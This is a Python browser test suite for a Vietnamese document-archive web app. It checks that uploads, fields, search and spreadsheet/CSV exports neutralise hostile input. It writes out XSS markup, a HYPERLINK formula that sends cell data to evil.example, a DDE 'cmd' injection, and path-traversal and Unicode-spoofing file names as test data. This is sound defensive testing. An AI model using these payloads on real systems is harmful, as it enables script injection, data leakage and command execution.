"""Names and texts that mean harm, through upload, fields, search and export: nothing runs, nothing breaks (H3–H5)."""

import csv
import unicodedata
from collections.abc import Iterator
from io import BytesIO, StringIO
from urllib.parse import unquote

import openpyxl
import pytest
from playwright.sync_api import Browser, FilePayload, Page, expect

from corpus import catalogue
from ingest import worker
from tests import stub
from tests.journeys.served import serving, sign_in, watched
from tests.web.desks import START, Desk, make_archive, make_desk, make_people
from vanthu import index_catcher

MARKUP = '"><img class=owned src=x onerror=alert(1)><script class=owned>alert(2)</script>'
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"xem")'
LONG = "Ô" * 60 + "dài" * 30
FAULTS = """() => {
    const alien = '.owned, script:not([src]), iframe, object, embed, [onerror]';
    const wide = document.documentElement.scrollWidth;
    const found = [...document.querySelectorAll(alien)].map(node => node.outerHTML);
    return wide > innerWidth ? [...found, `${wide} px wide`] : found;
}"""
NAMES = (
    "<img class=owned src=x onerror=alert(1)>.txt",
    "'-alert(1)-'.txt",
    "=cmd|' calc'!A0.txt",
    "+1+1.txt",
    "@SUM(1).txt",
    "{{7*7}}${7*7}.txt",
    "..\\..\\thoát.txt",
    "CON.txt",
    "-rf.txt",
    ".htaccess.txt",
    "\u202egpj.exe.txt",
    "a\u200bb\u2066c.txt",
    "%2e%2e%2fthoat.txt",
    'dòng; tên="hai".txt',
    unicodedata.normalize("NFD", "Đảng ủy xã.txt"),
    f"{LONG}.txt",
)
WORDS = (
    f"kiểm kê {MARKUP}",
    FORMULA,
    "+84 kiểm kê",
    "-2+3 kiểm kê",
    "@kiểm kê",
    "\u202ekiểm kê ngược",
    f"kiểm kê {LONG * 6}",
    unicodedata.normalize("NFD", "kiểm kê tổ hợp"),
)
PLACES = (
    "/home",
    "/home/week",
    "/home/unentered",
    "/review",
    "/receive",
    "/register",
    "/register/in",
    "/register/follow",
    "/search?q=ki%E1%BB%83m+k%C3%AA",
    f"/search?q={MARKUP}",
    "/search?issuer=%22%3E%3Cimg+class%3Downed+src%3Dx%3E",
    "/search?like=1",
    "/documents/1",
    f"/documents/1?hit={MARKUP}",
    "/documents/1/links",
    "/documents/7",
    "/follow",
    "/due",
    "/mine",
    "/dossiers",
    "/dossiers/1",
    "/dossiers/1/contents",
)
ADMIN_PLACES = ("/home", "/admin", "/admin/health", "/admin/audit", "/admin/tables")


def content(number: int) -> bytes:
    """A letter for the stub reader: a number, a citation and last the subject."""
    subject = WORDS[number % len(WORDS)]
    cited = f"Công văn số {number + 1}/SNV-VTLT ngày 2026-03-01"
    return f"Số: {number}/SNV-VTLT\n{cited}\n{MARKUP}\n{number} {subject}\n".encode()


@pytest.fixture(scope="module")
def desk(tmp_path_factory: pytest.TempPathFactory) -> Desk:
    archive = make_archive(tmp_path_factory.mktemp("hostile") / "kho")
    make_people(archive)
    return make_desk(archive)


@pytest.fixture(scope="module")
def site(desk: Desk, browser: Browser) -> Iterator[str]:
    """The office after the clerk has uploaded every hostile file, typed hostile words and registered a letter."""
    with serving(desk.app) as address:
        with watched(browser, address, asked=True) as page:
            sign_in(page, address, "clerk")
            upload(page, address)
            archive = desk.archive
            assert worker.run(
                archive,
                until_empty=True,
                read=stub.read,
                clock=lambda: START,
                after_each=index_catcher(archive),
            )
            for record_id in (1, 2):
                correct(page, address, record_id)
            open_file(page, address)
        index_catcher(archive)()
        yield address


def upload(page: Page, address: str) -> None:
    page.goto(address + "/receive")
    files = [
        FilePayload(name=name, mimeType="text/plain", buffer=content(number))
        for number, name in enumerate(NAMES, 1)
    ]
    page.set_input_files("#files", files)
    page.check("#declared")
    page.get_by_role("button", name="Gửi", exact=True).click()
    expect(page.locator("#arrivals tbody tr")).to_have_count(len(NAMES), timeout=30_000)


def correct(page: Page, address: str, record_id: int) -> None:
    """Type hostile words into the fields of a document and enter it in the register with some more."""
    page.goto(f"{address}/documents/{record_id}")
    for name, text in (("subject", FORMULA), ("signer", MARKUP), ("issuer", MARKUP), ("recipients", MARKUP)):
        page.fill(f"#field-{name}", text if record_id == 1 else f"@{text}")
    page.get_by_role("button", name="Lưu", exact=True).click()
    expect(page.get_by_role("status")).to_contain_text("Đã lưu sửa đổi.")
    book = page.locator("section[aria-labelledby=register]")
    book.locator("[name=receiver]").fill(MARKUP)
    book.locator("[name=note]").fill(FORMULA)
    book.get_by_role("button", name="Vào sổ").click()
    entered, asked = page.get_by_text("Đã vào sổ: số"), page.locator("[name=early]")
    expect(entered.or_(asked).first).to_be_visible()
    if asked.is_visible():  # the letter is dated after the day of this desk
        asked.check()
        page.locator("form", has=asked).get_by_role("button", name="Vào sổ").click()
    expect(page.get_by_role("status")).to_contain_text("Đã vào sổ")


def open_file(page: Page, address: str) -> None:
    """Open a file of matters under a hostile title, with the first document in it."""
    page.goto(f"{address}/documents/1")
    page.get_by_role("link", name="Mở hồ sơ mới cho văn bản này").click()
    page.locator("[name=title]").last.fill(MARKUP)
    page.fill("#code", "=01+1")
    page.fill("#retention", "10 năm")
    page.get_by_role("button", name="Mở hồ sơ").click()
    expect(page.locator("h1")).to_contain_text("=01+1")


def faults(page: Page) -> list[str]:
    """Return what a payload made of the page: nodes of its own, inline code, a page wider than its window."""
    found: list[str] = page.evaluate(FAULTS)
    return found


@pytest.mark.browser
@pytest.mark.parametrize(("role", "places"), [("clerk", PLACES), ("admin", ADMIN_PLACES)])
@pytest.mark.parametrize("width", [1366, 390])
def test_nothing_runs_and_no_page_breaks(
    browser: Browser, site: str, role: str, places: tuple[str, ...], width: int
) -> None:
    found = {}
    with watched(browser, site, viewport={"width": width, "height": 768}) as page:
        sign_in(page, site, role)
        for path in places:
            answer = page.goto(site + path)
            assert answer is not None and answer.status == 200, path
            if faults(page):
                found[path] = faults(page)
    assert found == {}


def kept(name: str) -> str:
    """Return a name as it is kept: in one composition, without what cannot be seen and what parts folders."""
    return "".join(ch for ch in unicodedata.normalize("NFC", name) if ch not in "\u202e\u200b\u2066\\")


@pytest.mark.browser
def test_names_are_shown_as_they_are_and_touch_no_path(site: str, desk: Desk, browser: Browser) -> None:
    with watched(browser, site) as page:
        sign_in(page, site, "clerk")
        page.goto(site + "/receive")
        shown = {row.text_content() for row in page.locator("#arrivals td[data-name='Tên tệp']").all()}
        assert shown == {kept(name) for name in NAMES}
        heads = [
            page.request.get(f"{site}/documents/{number}/originals/1").headers["content-disposition"]
            for number in range(1, len(NAMES) + 1)
        ]
    assert all(head.startswith("attachment; ") for head in heads)
    assert {unquote(head.partition("UTF-8''")[2]) for head in heads} == {kept(name) for name in NAMES}
    beside = {path.name for path in desk.archive.folder.parent.iterdir()}
    assert beside == {desk.archive.folder.name}
    assert [path for path in desk.archive.folder.rglob("*") if "tho" in path.name] == []


@pytest.mark.browser
def test_twins_of_composition_are_found_by_the_same_words(site: str, browser: Browser) -> None:
    with watched(browser, site) as page:
        sign_in(page, site, "clerk")
        for form in ("NFC", "NFD"):
            page.goto(site + "/search")
            page.fill("#q", unicodedata.normalize(form, '"kiểm kê tổ hợp"'))
            page.keyboard.press("Enter")
            expect(page.locator("article.hit").first.locator("mark").first).to_be_visible()


@pytest.mark.browser
def test_no_export_holds_a_formula(site: str, browser: Browser, desk: Desk) -> None:
    with desk.archive.database.read() as conn:
        assert catalogue.get(conn, 1).subject == FORMULA
    with watched(browser, site) as page:
        sign_in(page, site, "clerk")
        book = openpyxl.load_workbook(BytesIO(page.request.get(f"{site}/register/in.xlsx?year=2026").body()))
    with watched(browser, site) as page:
        sign_in(page, site, "admin")
        log = page.request.get(f"{site}/admin/audit/log.csv").body().decode("utf-8-sig")
    cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row if cell.value is not None]
    assert [cell.coordinate for cell in cells if cell.data_type == "f"] == []
    assert [cell.value for cell in cells if str(cell.value) == FORMULA], "the words stand in a cell as text"
    rows = list(csv.reader(StringIO(log)))
    assert len(rows) > len(NAMES)
    assert [cell for row in rows for cell in row if cell[:1] in "=+-@\t\r" and cell] == []
